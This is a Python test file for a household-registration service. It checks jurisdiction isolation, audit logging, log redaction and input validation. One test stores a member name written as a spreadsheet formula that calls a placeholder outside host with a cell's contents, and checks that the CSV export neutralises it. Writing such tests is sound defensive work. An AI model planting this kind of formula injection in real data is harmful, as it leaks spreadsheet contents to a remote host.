"""Nothing about what exists outside a caller's jurisdiction leaks through an answer, a lookup or a log."""

import json
from typing import Any

import httpx
import pytest

from common.logging import configure_logging, format_exc_redacted
from devkit.kit.households import TOWNSHIP_A, VILLAGE_A, headers, household_body, if_match, member, register
from devkit.kit.identification import CADRE, declare, ok, sign_consent
from devkit.testing.fixtures import TopicReader, resident_id
from intake.config import settings

ZHONGKAI_CADRE = headers("village_cadre", "441302", sub="cadre-huizhou")


def _without_instance(body: dict[str, Any]) -> dict[str, Any]:
    return {k: v for k, v in body.items() if k != "instance"}


async def test_a_resident_registered_elsewhere_is_not_located_and_the_attempt_is_audited(
    client: httpx.AsyncClient,
) -> None:
    rid = resident_id()
    elsewhere = await register(client, members=[member(resident_id=rid)])  # in 弥勒市
    r = await client.post(
        "/households",
        json=household_body("441302001001", members=[member(resident_id=rid)]),
        headers=ZHONGKAI_CADRE,
    )
    assert r.status_code == 409, r.text
    text = r.text
    for secret in (elsewhere["id"], elsewhere["household_no"], elsewhere["region_code"], "弥勒"):
        assert secret not in text, f"{secret} leaked"
    assert "another jurisdiction" in r.json()["detail"]
    async with TopicReader(settings.kafka_bootstrap_servers or "", "audit.access.v1") as audit:
        await audit.wait_for(
            lambda m: (
                (d := json.loads(m.value)["data"])["household_id"] == elsewhere["id"]
                and d["actor"] == "cadre-huizhou"
                and d["what"].startswith("registration attempt")
            ),
            timeout=30,
        )
    same = await client.post(  # inside the jurisdiction the cadre may be told which household it is
        "/households", json=household_body(members=[member(resident_id=rid)]), headers=CADRE
    )
    assert same.status_code == 409 and elsewhere["id"] in same.text


async def test_lookup_and_case_answers_are_the_same_for_absent_and_foreign(client: httpx.AsyncClient) -> None:
    rid = resident_id()
    await register(client, members=[member(resident_id=rid)])
    officer = headers("township_officer", "441302001")
    foreign = await client.post(
        "/households/lookup", json={"resident_id": rid}, headers=officer, params={"purpose": "核查"}
    )
    absent = await client.post(
        "/households/lookup", json={"resident_id": resident_id()}, headers=officer, params={"purpose": "核查"}
    )
    assert foreign.status_code == absent.status_code == 404
    assert _without_instance(foreign.json()) == _without_instance(absent.json())

    household = await register(client)
    await sign_consent(client, household)
    case = await declare(client, household)
    foreign_case = await client.get(f"/cases/{case['id']}", headers=officer)
    no_case = await client.get("/cases/6f1c7d2e-1111-4a5b-9c8d-0000000000ff", headers=officer)
    assert foreign_case.status_code == no_case.status_code == 404
    assert _without_instance(foreign_case.json()) == _without_instance(no_case.json())


async def test_a_department_cannot_read_a_villages_notice_list(client: httpx.AsyncClient) -> None:
    dept = headers("department", "532504", department="civil-affairs")
    r = await client.get(f"/villages/{VILLAGE_A}/public-notice", headers=dept)
    assert r.status_code in (403, 404) and "head_name" not in r.text


async def test_revisions_are_an_audited_read(client: httpx.AsyncClient) -> None:
    household = await register(client)
    township = headers("township_officer", TOWNSHIP_A, sub="township-revisions")
    await ok(await client.get(f"/households/{household['id']}/revisions", headers=township))
    async with TopicReader(settings.kafka_bootstrap_servers or "", "audit.access.v1") as audit:
        await audit.wait_for(
            lambda m: (
                (d := json.loads(m.value)["data"])["household_id"] == household["id"]
                and d["what"] == "household revisions"
                and d["actor"] == "township-revisions"
            ),
            timeout=30,
        )


async def test_a_name_written_as_a_formula_is_text_in_the_csv(client: httpx.AsyncClient) -> None:
    from devkit.kit.identification import to_notice

    formula = '=HYPERLINK("http://x.example/?"&A1,"点击")'
    household = await register(client, members=[member(name=formula), member("spouse")])
    await to_notice(client, household)
    csv = await client.get(f"/villages/{VILLAGE_A}/public-notice", params={"format": "csv"}, headers=CADRE)
    assert csv.status_code == 200
    assert "'=HYPERLINK" in csv.text and ",=HYPERLINK" not in csv.text and '"=HYPERLINK' not in csv.text


@pytest.mark.parametrize("where", ["name", "address"])
async def test_a_nul_byte_is_a_422_not_a_500(client: httpx.AsyncClient, where: str) -> None:
    body = household_body()
    if where == "name":
        body["members"][0]["name"] = "王\u0000五"
    else:
        body["address"] = "1组\u00008号"
    r = await client.post("/households", json=body, headers=CADRE)
    assert r.status_code == 422 and r.headers["content-type"].startswith("application/problem+json")


async def test_a_body_past_the_limit_is_a_413(client: httpx.AsyncClient) -> None:
    body = household_body(address="村" * 1_000_000)
    r = await client.post("/households", json=body, headers=CADRE)
    assert r.status_code == 413 and r.json()["type"].endswith("/payload-too-large")


async def test_rejoining_a_household_after_registering_elsewhere_is_a_409(client: httpx.AsyncClient) -> None:
    rid = resident_id()
    first = await register(client, members=[member(), member("child", resident_id=rid)])
    son = next(m for m in first["members"] if m["relation"] == "child")
    await ok(
        await client.patch(
            f"/households/{first['id']}/members/{son['id']}",
            json={"active": False, "reason": "分户"},
            headers=await if_match(client, first["id"], CADRE),
        )
    )
    await register(client, members=[member(resident_id=rid)])
    back = await client.patch(
        f"/households/{first['id']}/members/{son['id']}",
        json={"active": True, "reason": "回迁"},
        headers=await if_match(client, first["id"], CADRE),
    )
    assert back.status_code == 409, back.text


def test_tracebacks_in_logs_carry_no_exception_message() -> None:
    statement = "INSERT ... parameters: ('王五', '1组8号')"  # what a database error's message may hold
    try:
        raise ValueError(statement)
    except ValueError as exc:
        event = format_exc_redacted(None, "error", {"event": "boom", "exc_info": exc})
    assert "王五" not in event["exception"] and "ValueError (message withheld)" in event["exception"]
    configure_logging("intake", "WARNING")
